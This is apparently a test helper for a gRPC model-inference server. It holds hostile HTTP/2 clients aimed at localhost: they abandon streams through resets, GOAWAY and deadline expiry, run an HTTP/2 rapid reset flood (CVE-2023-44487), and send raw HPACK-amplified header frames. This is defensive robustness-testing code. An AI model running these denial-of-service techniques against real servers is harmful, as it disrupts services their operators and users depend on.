/**
 * Test helper: a hostile gRPC client written with node:http2 directly. It opens ModelInfer
 * streams for model `simple` and then resets them, GOAWAYs or destroys their connection, lets
 * their deadlines expire, or opens and resets thousands of streams at once (HTTP/2 rapid reset,
 * CVE-2023-44487). Every attack resolves once the client side is done; it never throws for what
 * the server does to it (that is the point).
 */
import { connect, constants, type ClientHttp2Session, type ClientHttp2Stream, type OutgoingHttpHeaders } from 'node:http2';
import { connect as netConnect, type Socket } from 'node:net';
import { messageType } from '@triode/core';

export const MODEL_INFER = '/inference.GRPCInferenceService/ModelInfer';
export const MODEL_STREAM_INFER = '/inference.GRPCInferenceService/ModelStreamInfer';

/** A ModelInferRequest for `simple` (two [1,16] INT32 inputs) with gRPC's 5-byte prefix. */
export function simpleInferFrame(k = 1): Buffer {
  const raw = (a: Int32Array) => Buffer.from(a.buffer, a.byteOffset, a.byteLength);
  const msg = messageType('ModelInferRequest').encode(messageType('ModelInferRequest').fromObject({
    model_name: 'simple',
    inputs: [{ name: 'INPUT0', datatype: 'INT32', shape: [1, 16] }, { name: 'INPUT1', datatype: 'INT32', shape: [1, 16] }],
    raw_input_contents: [raw(new Int32Array(16).fill(k)), raw(new Int32Array(16).fill(1))],
  })).finish();
  const frame = Buffer.alloc(5 + msg.byteLength);
  frame.writeUInt32BE(msg.byteLength, 1);
  frame.set(msg, 5);
  return frame;
}

/** A ModelInferRequest for model `m` with no inputs (for stand-in backplanes), with gRPC's 5-byte prefix. */
export function emptyInferFrame(id = ''): Buffer {
  const t = messageType('ModelInferRequest');
  const msg = t.encode(t.fromObject({ model_name: 'm', id })).finish();
  const f = Buffer.alloc(5 + msg.byteLength);
  f.writeUInt32BE(msg.byteLength, 1);
  f.set(msg, 5);
  return f;
}

/** gRPC request headers for `path` (plus `extra`). */
export function grpcHeaders(path = MODEL_INFER, extra: OutgoingHttpHeaders = {}): OutgoingHttpHeaders {
  return { ':method': 'POST', ':path': path, 'content-type': 'application/grpc', te: 'trailers', ...extra };
}

/** What a gRPC call got back. */
export interface GrpcResult {
  /** `grpc-status` from trailers (or trailers-only headers); undefined when the stream ended without one. */
  status: number | undefined;
  message: string;
  /** The response message bytes (after the 5-byte prefix), when there was one. */
  body: Buffer;
  /** RST_STREAM code the stream closed with. */
  rstCode: number | undefined;
}

/** Collects a stream's gRPC outcome; never rejects. */
export function grpcResult(stream: ClientHttp2Stream): Promise<GrpcResult> {
  return new Promise((resolve) => {
    let status: number | undefined;
    let message = '';
    const chunks: Buffer[] = [];
    const take = (h: Record<string, unknown>) => {
      if (h['grpc-status'] !== undefined) status = Number(h['grpc-status']);
      if (typeof h['grpc-message'] === 'string') message = decodeURIComponent(h['grpc-message']);
    };
    stream.on('response', take);
    stream.on('trailers', take);
    stream.on('data', (c: Buffer) => chunks.push(c));
    stream.on('error', () => undefined);
    stream.on('close', () => {
      const all = Buffer.concat(chunks);
      resolve({ status, message, body: all.byteLength >= 5 ? all.subarray(5) : all, rstCode: stream.rstCode });
    });
  });
}

/** The TCP socket under each session this helper opened (Node's session.socket refuses destroy()). */
const sockets = new WeakMap<ClientHttp2Session, Socket>();

/** Opens a client session; resolves once connected. Errors on it are swallowed (the server may GOAWAY it). */
export function openSession(port: number): Promise<ClientHttp2Session> {
  return new Promise((resolve, reject) => {
    let socket: Socket | undefined;
    const s = connect(`http://127.0.0.1:${port}`, {
      createConnection: () => {
        socket = netConnect(port, '127.0.0.1');
        socket.on('error', () => undefined);
        return socket;
      },
    });
    if (socket) sockets.set(s, socket);
    s.on('error', () => undefined);
    s.once('connect', () => resolve(s));
    s.once('close', () => reject(new Error('session closed before it connected')));
  });
}

/** One well-formed ModelInfer call for `simple` on a fresh connection, with a grpc-timeout of `deadlineMs`. */
export async function inferOnce(port: number, deadlineMs = 1000, extra: OutgoingHttpHeaders = {}): Promise<GrpcResult> {
  const s = await openSession(port);
  try {
    const st = s.request(grpcHeaders(MODEL_INFER, { 'grpc-timeout': `${deadlineMs}m`, ...extra }));
    const done = grpcResult(st);
    const timer = setTimeout(() => st.close(constants.NGHTTP2_CANCEL), deadlineMs);
    st.end(simpleInferFrame(2));
    const r = await done;
    clearTimeout(timer);
    return r;
  } finally {
    s.destroy();
  }
}

/** How the client walks away from its in-flight calls. */
export type AttackMode = 'rst-cancel' | 'rst-internal' | 'goaway-protocol' | 'session-destroy' | 'socket-destroy' | 'deadline';

export const ATTACK_MODES: AttackMode[] = ['rst-cancel', 'rst-internal', 'goaway-protocol', 'session-destroy', 'socket-destroy', 'deadline'];

/** Waits until every stream has closed. */
function closed(streams: ClientHttp2Stream[]): Promise<void> {
  return Promise.all(streams.map((st) => new Promise<void>((r) => (st.closed ? r() : st.once('close', () => r()))))).then(() => undefined);
}

/**
 * Opens `calls` ModelInfer streams on `connections` connections (half send the whole frame, half
 * a partial one and keep the stream open; half are ModelInfer calls on the fast path, a quarter
 * ModelInfer calls on grpc-js, a quarter ModelStreamInfer calls), waits until the server has seen them (a PING round
 * trip), then walks away from all of them per `mode`. Resolves once every stream is closed.
 */
export async function abandonCalls(port: number, mode: AttackMode, calls = 1000, connections = 4): Promise<void> {
  const frame = simpleInferFrame();
  const sessions = await Promise.all(Array.from({ length: connections }, () => openSession(port)));
  const streams: ClientHttp2Stream[][] = sessions.map(() => []);
  for (let i = 0; i < calls; i++) {
    const c = i % connections;
    const extra: OutgoingHttpHeaders = mode === 'deadline' ? { 'grpc-timeout': `${1 + (i % 20)}m` } : {};
    // Every fourth call says grpc-encoding gzip (its frame is not compressed, which gRPC allows):
    // those go to grpc-js's own handlers instead of the fast path.
    if (i % 4 === 3) extra['grpc-encoding'] = 'gzip';
    // And every fourth (another one) is a ModelStreamInfer stream (grpc-js, bidirectional).
    const path = i % 4 === 1 ? MODEL_STREAM_INFER : MODEL_INFER;
    const st = sessions[c]!.request(grpcHeaders(path, extra), { endStream: false });
    st.on('error', () => undefined);
    st.resume();
    if (i % 2 === 0) st.end(frame);
    else st.write(frame.subarray(0, 20));
    streams[c]!.push(st);
  }
  // A PING answered means the server has read every frame sent before it.
  await Promise.all(sessions.map((s) => new Promise<void>((r) => (s.closed ? r() : s.ping(() => r())))));
  for (let c = 0; c < connections; c++) {
    const s = sessions[c]!;
    switch (mode) {
      case 'rst-cancel': for (const st of streams[c]!) st.close(constants.NGHTTP2_CANCEL); break;
      case 'rst-internal': for (const st of streams[c]!) st.close(constants.NGHTTP2_INTERNAL_ERROR); break;
      case 'goaway-protocol': s.goaway(constants.NGHTTP2_PROTOCOL_ERROR); s.destroy(); break;
      case 'session-destroy': s.destroy(); break;
      case 'socket-destroy': sockets.get(s)!.destroy(); break;
      case 'deadline': for (const st of streams[c]!) if (!st.closed) st.end(); break;
    }
  }
  await Promise.all(streams.map((list) => closed(list)));
  for (const s of sessions) s.destroy();
}

/**
 * HTTP/2 rapid reset: `resets` streams opened and at once reset (RST_STREAM CANCEL) on one
 * connection, half after a whole ModelInfer frame, half after part of one. Resolves with the GOAWAY code the server sent
 * (undefined when none) once the connection is closed or every stream is.
 */
export async function rapidReset(port: number, resets = 10_000): Promise<{ goawayCode: number | undefined; opened: number }> {
  const s = await openSession(port);
  let goawayCode: number | undefined;
  s.on('goaway', (code: number) => { goawayCode = code; });
  const frame = simpleInferFrame();
  const streams: ClientHttp2Stream[] = [];
  let opened = 0;
  for (let i = 0; i < resets && !s.closed && !s.destroyed; i++) {
    let st: ClientHttp2Stream;
    try {
      st = s.request(grpcHeaders(), { endStream: false });
    } catch {
      break; // the server sent GOAWAY: no new streams on this connection
    }
    opened++;
    st.on('error', () => undefined);
    if (i % 2 === 0) st.end(frame);
    else st.write(frame.subarray(0, 20));
    st.close(constants.NGHTTP2_CANCEL);
    streams.push(st);
    // Let the frames go out in batches, as a real attacker's would, without waiting on the server.
    if (i % 500 === 499) await new Promise((r) => setImmediate(r));
  }
  // A PING answered means the server read every frame before it; a GOAWAY comes before its answer.
  await new Promise<void>((r) => {
    if (s.closed || s.destroyed) return r();
    s.once('close', () => r());
    try {
      s.ping(() => r());
    } catch {
      r();
    }
  });
  await closed(streams);
  s.destroy();
  return { goawayCode, opened };
}

/** An HTTP/2 frame: 9-byte header (length, type, flags, stream id), then `payload`. */
function h2Frame(type: number, flags: number, streamId: number, payload: Buffer): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.byteLength, 0, 3);
  head[3] = type;
  head[4] = flags;
  head.writeUInt32BE(streamId, 5);
  return Buffer.concat([head, payload]);
}

/** An HPACK integer with an `n`-bit prefix, its first byte or'ed with `first` (RFC 7541 §5.1). */
function hpackInt(first: number, n: number, value: number): Buffer {
  const max = (1 << n) - 1;
  if (value < max) return Buffer.from([first | value]);
  const out = [first | max];
  for (value -= max; value >= 128; value >>= 7) out.push((value & 127) | 128);
  out.push(value);
  return Buffer.from(out);
}

const hpackString = (s: string): Buffer => Buffer.concat([hpackInt(0, 7, Buffer.byteLength(s)), Buffer.from(s)]);

/**
 * A raw HTTP/2 connection that never acknowledges the server's SETTINGS (node:http2 then holds it
 * to its default header list limit, 64 KiB, not the server's), opening `streams` ModelStreamInfer
 * streams whose headers carry `copies` copies of one 1000-byte value: HPACK indexes it once, then
 * each copy is one byte on the wire. Resolves once the server has read them all (a PING round trip)
 * with how many streams the server has closed so far (END_STREAM or RST_STREAM), as a function.
 */
export async function unacknowledgedStreams(port: number, streams: number, copies: number): Promise<{ closedByServer(): number; close(): void }> {
  const socket = netConnect(port, '127.0.0.1');
  socket.on('error', () => undefined);
  await new Promise((r) => socket.once('connect', r));
  const closedIds = new Set<number>();
  let pinged: (() => void) | undefined;
  let pending = Buffer.alloc(0);
  socket.on('data', (d: Buffer) => {
    pending = Buffer.concat([pending, d]);
    while (pending.byteLength >= 9 && pending.byteLength >= 9 + pending.readUIntBE(0, 3)) {
      const [type, flags, id] = [pending[3]!, pending[4]!, pending.readUInt32BE(5) & 0x7fffffff];
      if ((type === 1 && (flags & 1)) || type === 3) closedIds.add(id);
      if (type === 6 && (flags & 1)) pinged?.();
      pending = pending.subarray(9 + pending.readUIntBE(0, 3));
    }
  });
  // :method POST and :scheme http (static table), then literals without indexing, then x-pad added to
  // the dynamic table (index 62) and referenced (0xbe) for each further copy.
  const fields = Buffer.concat([
    Buffer.from([0x83, 0x86]), hpackInt(0, 4, 4), hpackString(MODEL_STREAM_INFER), hpackInt(0, 4, 1), hpackString('localhost'),
    hpackInt(0, 4, 31), hpackString('application/grpc'), Buffer.from([0]), hpackString('te'), hpackString('trailers'),
  ]);
  const indexed = Buffer.concat([Buffer.from([0x40]), hpackString('x-pad'), hpackString('b'.repeat(1000))]);
  const frames: Buffer[] = [Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'), h2Frame(4, 0, 0, Buffer.alloc(0))];
  for (let i = 0; i < streams; i++) {
    const block = Buffer.concat([fields, i === 0 ? indexed : Buffer.alloc(0), Buffer.alloc(i === 0 ? copies - 1 : copies, 0xbe)]);
    frames.push(h2Frame(1, 4, 1 + 2 * i, block)); // HEADERS, END_HEADERS (the stream stays open)
  }
  const answered = new Promise<void>((r) => { pinged = r; });
  socket.write(Buffer.concat([...frames, h2Frame(6, 0, 0, Buffer.alloc(8))]));
  await answered;
  return { closedByServer: () => closedIds.size, close: () => socket.destroy() };
}
